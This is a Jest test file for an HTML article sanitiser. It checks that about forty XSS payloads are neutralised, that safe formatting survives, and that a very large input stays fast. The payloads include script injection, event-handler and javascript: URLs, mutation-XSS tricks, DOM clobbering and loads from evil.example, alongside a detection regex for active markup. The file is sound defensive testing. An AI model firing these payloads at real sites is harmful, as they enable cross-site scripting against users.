import { describe, expect, test } from '@jest/globals';
import { sanitiseArticle } from './sanitise-article.ts';

const picture = '/api/images/0197a000-0000-7000-8000-0000000000ee/800.webp';

/** What could still act in a browser. */
const acts =
  /<(?:script|iframe|object|embed|form|input|svg|math|style|link|meta|base)|\son\w+\s*=|javascript:|vbscript:|data:|srcset|style\s*=|\sid\s*=|\sname\s*=/i;

describe('attacks of the corpus are without effect', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    `<img src="${picture}" onload="alert(1)">`,
    `<img src="${picture}?x=1">`,
    '<img src="/api/images/../logout/800.webp">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p id="root" name="forms">clobbered</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea></textarea><script>alert(1)</script>',
    '<title><img src=x onerror=alert(1)></title>',
    '<<script>alert(1)//<</script>',
    '<img """><script>alert(1)</script>">',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<xss onpointerover=alert(1)>x</xss>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<select><noembed></select><script>alert(1)</script></noembed>',
  ])('%s', (attack) => {
    const once = sanitiseArticle(`<p>before</p>${attack}`);
    expect(once).toContain('<p>before</p>');
    expect(once).not.toMatch(acts);
    expect(sanitiseArticle(once)).toBe(once);
  });
});

test.each([
  ['<h2>Find it</h2><p><strong>22...Rxc3!!</strong> <em>and</em> <u>wins</u></p>', null],
  ['<ul><li><p>one</p></li></ul><ol start="3"><li>two</li></ol><blockquote><p>q</p></blockquote>', null],
  ['<a href="/games/1">here</a> <a href="mailto:a@example.org">mail</a>', null],
  ['<h1>One</h1><b>b</b><i>i</i>', '<h2>One</h2><strong>b</strong><em>i</em>'],
  [`<img src="${picture}" alt="Łódź">`, `<img src="${picture}" alt="Łódź" loading="lazy" />`],
  [
    '<a href="https://example.org">out</a>',
    '<a href="https://example.org" rel="noopener noreferrer nofollow" target="_blank">out</a>',
  ],
])('keeps %s', (html, expected) => {
  expect(sanitiseArticle(html)).toBe(expected ?? html);
});

test('a text of 200,000 characters with 10,000 open tags takes less than a second of the processor', () => {
  const began = process.cpuUsage();
  expect(sanitiseArticle('<p><strong>'.repeat(10_000) + 'x'.repeat(90_000))).toContain('x'.repeat(90_000));
  const { user, system } = process.cpuUsage(began);
  expect((user + system) / 1_000).toBeLessThan(1_000);
});
